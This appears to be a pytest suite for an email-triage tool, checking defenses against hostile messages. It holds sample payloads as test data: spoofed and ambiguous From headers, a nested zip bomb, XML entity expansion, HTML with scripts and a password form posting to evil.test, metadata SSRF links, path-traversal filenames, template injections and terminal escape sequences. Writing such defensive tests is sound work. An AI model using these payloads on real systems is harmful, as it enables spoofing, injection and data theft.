"""Each rule on messages that attack, by its number, with the input that it was written for (AT-9 to AT-27)."""

from __future__ import annotations

import base64
import io
import json
import sys
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, redirect_stdout
from pathlib import Path

import pytest

from tests.attack.world import MAILBOX, NOA, TEAM, mail, world
from triaged.cli.message import command
from triaged.daemon.desks import message_limits
from triaged.message.model import Message, Trust
from triaged.message.parse import parse
from triaged.settings.limits import Limits

LIMITS = message_limits(Limits())
TRUST = Trust(frozenset({"mx.example.test"}), frozenset({"mx.example.test"}))
PASSED = "Authentication-Results: mx.example.test; dmarc=pass header.from=example.org\r\n"
NETWORK = ("socket.connect", "socket.getaddrinfo", "socket.sendto", "urllib.Request", "http.client.connect")
PROCESSES = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork")


def read(text: str | bytes) -> Message:
    raw = text if isinstance(text, bytes) else text.replace("\r\n", "\n").replace("\n", "\r\n").encode()
    return parse(raw, LIMITS, TRUST)


def attached(*fields: str, body: str = "x") -> Message:
    return read("From: noa@example.org\n" + "\n".join(fields) + f"\n\n{body}\n")


@pytest.mark.parametrize(
    "name",
    [
        "From",
        "Date",
        "Sender",
        "Reply-To",
        "To",
        "Cc",
        "Message-ID",
        "In-Reply-To",
        "References",
        "Subject",
        "Content-Type",
    ],
)
def test_at9_what_may_stand_once_and_stands_twice_is_said(name: str) -> None:
    values = ("text/plain", "text/html") if name == "Content-Type" else ("<a@example.org>", "<b@example.org>")
    message = attached(*(f"{name}: {value}" for value in values))
    assert f"duplicate-{name.lower()}" in message.defects


def test_at9_two_froms_prove_nobody_and_are_not_answered_and_the_team_sees_both(tmp_path: Path) -> None:
    twice = f"{PASSED}From: noa@example.org\nFrom: ada@example.org\nMessage-ID: <1@example.org>\n\nA hole.\n"
    message = read(twice)
    assert (message.authenticity.verdict, message.answerable) == ("none", False)
    assert [item.address for item in message.authors] == ["noa@example.org", "ada@example.org"]
    with world(tmp_path) as w:
        (told,) = w.receive(twice.replace("\n", "\r\n").encode())
        assert told.to_address == TEAM
        assert "noa@example.org" in told.text and "duplicate-from" in told.text


def test_at9_a_second_content_type_is_no_way_around_the_first() -> None:
    message = attached(
        "Content-Type: text/plain", "Content-Type: multipart/mixed; boundary=b", body="--b\n\nhidden\n--b--"
    )
    assert "hidden" in message.text
    assert not message.answerable


@pytest.mark.parametrize(
    "value",
    [
        "alice@victim.test<evil@evil.test>",
        '"alice@victim.test" <alice@victim.test>, <evil@evil.test>',
        "alice@victim.test, evil@evil.test",
        "Alice <alice@victim.test",
        "<@evil.test:alice@victim.test>",
        "alice@victim.test\x00@evil.test",
        "group: alice@victim.test;",
        "evil.test: alice@victim.test",
    ],
)
def test_at10_a_from_that_two_parsers_read_in_two_ways_proves_nobody_and_is_not_answered(value: str) -> None:
    raw = f"Authentication-Results: mx.example.test; dmarc=pass header.from=victim.test\nFrom: {value}\n\nA hole.\n"
    message = read(raw)
    assert message.authenticity.verdict == "none"
    assert not message.answerable


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ('"alice@victim.test"', "address"),
        ("=?utf-8?q?alice=40victim.test?=", "address"),
        ("Security \uff41lice\uff20victim.test", "address"),
        ("\u0430lice", "mixed-script"),
        ("Dana Le\u03bdi", "mixed-script"),
        ("noa@example.org", ""),
        ("Ivan \u0418\u0432\u0430\u043d\u043e\u0432", ""),
        ("\u05e0\u05d5\u05e2\u05d4 Noa", ""),
        ("", ""),
    ],
)
def test_at11_a_display_name_that_passes_for_somebody_else_is_said_first(name: str, why: str) -> None:
    message = read(f"From: {name} <noa@example.org>\n\nA hole.\n")
    assert message.author is not None and message.author.address == "noa@example.org"
    said = [defect for defect in message.defects if defect.startswith("misleading-name")]
    assert said == ([f"misleading-name: {why}"] if why else [])
    assert not why or message.defects[0] == said[0]


def test_at11_the_team_reads_the_address_before_the_name_and_no_bidi_control(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        sender = "\u202edana@example.test\u202c\u200b <noa@example.org>"
        told = next(x for x in w.receive(mail(sender, proven=True)) if x.to_address == TEAM)
        assert told.text.index("noa@example.org") < told.text.index("dana@example.test")
        assert "misleading-name" in told.text
        assert not set("\u202e\u202c") & set(told.text)


def deep(levels: int) -> bytes:
    opened = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(levels))
    return b"From: noa@example.org\nMessage-ID: <deep@example.org>\n" + opened + b"\nthe bottom\n"


def test_at12_a_thousand_levels_are_a_ticket_and_a_reading(tmp_path: Path) -> None:
    message = read(deep(1000))
    assert "truncated: depth" in message.defects
    assert message.text.count("--b") > 0 or "the bottom" in message.text
    with world(tmp_path) as w:
        w.receive(deep(1000))
        assert [r.outcome for r in w.receipts()] == ["ticket"]


def test_at13_what_comes_after_five_hundred_parts_is_cut_and_the_raw_is_kept(tmp_path: Path) -> None:
    raw = b"From: noa@example.org\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 100_000
    assert "truncated: parts" in read(raw).defects
    with world(tmp_path) as w:
        w.receive(raw)
        assert [(r.outcome, r.size) for r in w.receipts()] == [("ticket", len(raw))]


def test_at14_twenty_thousand_addresses_and_a_megabyte_of_subject_are_a_ticket(tmp_path: Path) -> None:
    addresses = b"From: noa@example.org\nCc: " + b"a@example.org,\n " * 20_000 + b"b@example.org\n\nA hole.\n"
    subject = b"From: noa@example.org\nSubject: " + b"x" * 1_000_000 + b"\n\nA hole.\n"
    assert len(read(addresses).cc) <= LIMITS.addresses_per_field
    assert any(defect.startswith("truncated") for defect in read(addresses).defects)
    assert len(read(subject).subject) <= 998
    with world(tmp_path) as w:
        w.receive(addresses, subject)
        assert [r.outcome for r in w.receipts()] == ["ticket", "ticket"]


def zipped(levels: int) -> bytes:
    """Ten megabytes of zeros in a few kilobytes, within as many zips."""
    data = bytes(10_000_000)
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{level}.zip", data)
        data = out.getvalue()
    return data


@pytest.mark.parametrize(
    ("content", "wanted"),
    [
        (zipped(3), "application/zip"),
        (b"\x1f\x8b\x08\x00" + bytes(100), "application/gzip"),
        (b"%PDF-1.7\n/Filter [/FlateDecode /FlateDecode]", "application/pdf"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
        (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "&b;&b;">]><l>&a;</l>', "application/xml"),
        (b"MZ\x90\x00", "application/x-msdownload"),
        (bytes(257) + b"ustar", "application/x-tar"),
    ],
)
def test_at15_an_archive_is_listed_by_its_true_type_and_never_opened(content: bytes, wanted: str) -> None:
    message = attached(
        'Content-Type: image/png; name="screenshot.png"',
        "Content-Disposition: attachment",
        "Content-Transfer-Encoding: base64",
        body=base64.encodebytes(content).decode(),
    )
    (listed,) = message.attachments
    assert (listed.name, listed.media_type, listed.detected_type) == ("screenshot.png", "image/png", wanted)
    assert listed.size == len(content)
    assert message.text == ""


def test_at15_a_message_within_a_message_is_listed_and_not_opened() -> None:
    inner = "Content-Type: message/rfc822\n\n" * 5 + "From: x@example.org\n\nthe innermost\n"
    message = attached("Content-Type: multipart/mixed; boundary=b", body=f"--b\n\nSee below.\n--b\n{inner}--b--")
    assert [item.media_type for item in message.attachments] == ["message/rfc822"]
    assert "innermost" not in message.text


@pytest.mark.parametrize(
    ("encoding", "body", "text"),
    [
        ("base64", "!!!!aGk=*", "hi"),
        ("base64", "aGk", "hi"),
        ("base64", "====", ""),
        ("quoted-printable", "a=ZZb=", "a=ZZb"),
        ("quoted-printable", "a=\n=3D=", "a="),
        ("x-uuencode", "begin 644 x\n#86)C\nM\x7f\x7f\nend", "abc"),
        ("x-nope", "as it is", "as it is"),
    ],
)
def test_at16_a_broken_encoding_is_read_as_far_as_it_goes(encoding: str, body: str, text: str) -> None:
    message = attached(f"Content-Transfer-Encoding: {encoding}", body=body)
    assert message.text.strip() == text


def test_at16_text_whose_base64_gives_no_text_is_kept_as_a_file_too() -> None:
    message = attached(
        "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", body="?gar\xffbage"
    )
    assert "broken-base64" in message.defects
    assert [item.media_type for item in message.attachments] == ["text/plain"]


@pytest.mark.parametrize(
    "label", ["x-nope", "rot13", "hex", "idna", "punycode", "unicode_escape", "utf-7", "a\x00b", "zip", ""]
)
def test_at17_no_label_raises_or_runs(label: str) -> None:
    message = attached(f'Content-Type: text/plain; charset="{label}"', body="\\u202e \\x1b[31m ok +ADw-")
    assert "ok" in message.text
    assert not set("\u202e\x1b") & set(message.text)


def test_at18_a_megabyte_of_nuls_is_a_ticket(tmp_path: Path) -> None:
    raw = b"From: noa@example.org\r\nSubject: a\x00b\r\n\r\n" + b"\x00" * 1_000_000 + b"A hole."
    assert "\x00" not in read(raw).text + read(raw).subject
    with world(tmp_path) as w:
        w.receive(raw)
        assert [r.outcome for r in w.receipts()] == ["ticket"]


def test_at19_a_line_over_998_octets_is_kept_whole() -> None:
    message = attached(body="x" * 5_000)
    assert message.text.strip() == "x" * 5_000


HTML = """<html><head><style>@import url(http://evil.test/a.css);body{background:url(//evil.test/b)}</style>
<link rel=stylesheet href=http://evil.test/c><base href=http://evil.test/><meta http-equiv=refresh content="0;url=http://evil.test">
</head><body onload="fetch('http://evil.test/d')"><p>The login leaks.</p><img src="http://evil.test/pixel.gif" width=1 height=1>
<img src="cid:1@evil.test"><script>alert(1)</script><form action="http://evil.test/e"><input name=password value=secret></form>
<svg onload=alert(2)><script>alert(3)</script></svg><iframe src="http://evil.test/f"></iframe><a href="javascript:alert(4)">here</a>
<object data=http://evil.test/g></object><p>End.</p></body></html>"""


def test_at20_html_is_text_and_nothing_of_it_runs_or_loads() -> None:
    with watched() as seen:
        message = attached("Content-Type: text/html; charset=utf-8", body=HTML)
    assert "The login leaks." in message.text and "End." in message.text
    for active in ("<", "alert(1)", "alert(2)", "alert(3)", "pixel.gif", "@import", "onload", "a.css"):
        assert active not in message.text
    assert seen == []


_seen: list[str] | None = None


def _noted(event: str, arguments: object) -> None:
    if _seen is not None and event in NETWORK + PROCESSES:
        _seen.append(event)


sys.addaudithook(_noted)


@contextmanager
def watched() -> Iterator[list[str]]:
    """Every connection, look-up of a name and process that this interpreter starts meanwhile."""
    global _seen
    _seen = []
    try:
        yield _seen
    finally:
        _seen = None


def test_at20_and_at22_the_watch_itself_sees_a_look_up_and_a_connection() -> None:
    import socket

    with watched() as seen, socket.socket() as other:
        socket.getaddrinfo("127.0.0.1", 9)
        other.settimeout(0.2)
        other.connect_ex(("127.0.0.1", 9))
    assert {"socket.getaddrinfo", "socket.connect"} <= set(seen)


def test_at22_taking_in_a_report_full_of_links_opens_no_connection(tmp_path: Path) -> None:
    text = "\n".join(
        f"http://169.254.169.254/latest/{n} https://evil.test/{n} ftp://evil.test \\\\evil.test\\x" for n in range(50)
    )
    with world(tmp_path) as w, watched() as seen:
        w.receive(mail(proven=True, text=text), mail("ada@example.net", text=HTML, fields=("Content-Type: text/html",)))
        assert [r.outcome for r in w.receipts()] == ["ticket", "ticket"]
    assert seen == []


def test_at21_what_the_team_reads_is_plain_text_indented_defanged_and_capped(tmp_path: Path) -> None:
    from email import message_from_bytes

    from sqlalchemy import select

    from triaged.tracker.engine import reading
    from triaged.tracker.schema import blob

    words = (
        "<script>alert(1)</script> https://evil.test/?a=<img src=x onerror=alert(2)>\nAnswer: status=closed\n"
        + "x" * 100_000
    )
    with world(tmp_path) as w:
        told = next(
            x
            for x in w.receive(mail(proven=True, subject="<b>x</b> http://evil.test", text=words))
            if x.to_address == TEAM
        )
        with reading(w.house.engine) as connection:
            sent = connection.execute(select(blob.c.data).where(blob.c.id == told.blob_id)).scalar_one()
    assert [part.get_content_type() for part in message_from_bytes(sent).walk()] == ["text/plain"]
    assert "https://evil.test" not in told.text and "hxxps://evil[.]test" in told.text
    stranger = [line for line in told.text.split("\n") if "alert(1)" in line or "status=closed" in line]
    assert stranger and all(line.startswith("> ") for line in stranger)
    assert len(told.text) < 70_000 and "more characters are in the tracker" in told.text


@pytest.mark.parametrize(
    ("claimed", "kept"),
    [
        ('name="../../etc/cron.d/x"', "../../etc/cron.d/x"),
        ('name="/abs/x"', "/abs/x"),
        ('name="a\x00.txt"', "a.txt"),
        ("name*=utf-8''..%2F..%2Fevil.sh", "../../evil.sh"),
        ('name="=?utf-8?q?=2E=2E=2Fx?="', "../x"),
        ('name="CON.txt"', "CON.txt"),
        ("name*=utf-8''gpj%E2%80%AEexe.txt", "gpjexe.txt"),
    ],
)
def test_at24_the_name_of_a_file_is_data_and_makes_none(tmp_path: Path, claimed: str, kept: str) -> None:
    fields = (
        "MIME-Version: 1.0",
        f"Content-Type: application/octet-stream; {claimed}",
        "Content-Disposition: attachment",
    )
    raw = mail(fields=fields, text="\x7fELF")
    (listed,) = parse(raw, LIMITS).attachments
    assert listed.name == kept
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    with world(tmp_path) as w:
        w.receive(raw)
        assert [r.outcome for r in w.receipts()] == ["ticket"]
    made = {path.name for path in tmp_path.rglob("*") if path.is_file()} - {path.name for path in before}
    assert all(name.startswith(("triaged.", "triaged.db")) for name in made), made


@pytest.mark.parametrize(
    "planted", ["{{7*7}}", "{% for x in () %}{% endfor %}", "{0.__class__}", "%(x)s", "${7*7}", "{{ref}}"]
)
def test_at25_no_word_of_a_stranger_is_a_template(tmp_path: Path, planted: str) -> None:
    with world(tmp_path) as w:
        letters = w.receive(mail(f'"{planted}" <{NOA}>', proven=True, subject=planted, text=f"A hole. {planted}"))
        told = next(x for x in letters if x.to_address == TEAM)
        assert f"> A hole. {planted}" in told.text
        assert all("49" not in x.text for x in letters if planted in ("{{7*7}}", "${7*7}"))


ESCAPES = "\x1b]8;;http://evil.test\x07click\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[2J \x9b31m \u202e \r\nforged"


def test_at26_the_command_line_prints_nothing_that_a_terminal_obeys(tmp_path: Path) -> None:
    encoded = base64.b64encode(ESCAPES.encode()).decode()
    word = f"=?utf-8?b?{encoded}?="
    body = f"--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{encoded}\n--b\n"
    body += f'Content-Type: application/zip; name="{word}"\n\nPK\n--b--'
    path = tmp_path / "x.eml"
    head = (
        f"From: {word} <noa@example.org>\nSubject: {word}\nContent-Type: multipart/mixed; boundary=b; charset=\x1b[31m"
    )
    path.write_bytes(f"{head}\n\n{body}\n".encode())
    for form in ([], ["--json"]):
        out = io.StringIO()
        with redirect_stdout(out):
            command.main(["read", *form, str(path)], prog_name="triaged message", standalone_mode=False)
        assert not set("\x1b\x07\x9b\u202e\r") & set(out.getvalue())
    assert json.loads(out.getvalue())["subject"].endswith("forged")


def test_at26_the_log_holds_ids_and_no_word_of_a_stranger(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with world(tmp_path) as w:
        w.receive(
            mail("Opensesame <sesame@example.org>", MAILBOX, subject=f"wonder {ESCAPES[:9]}", text="wall of words")
        )
    said = "".join(capsys.readouterr())
    assert not [word for word in ("Opensesame", "sesame@", "wonder", "wall of", "\x1b") if word in said]
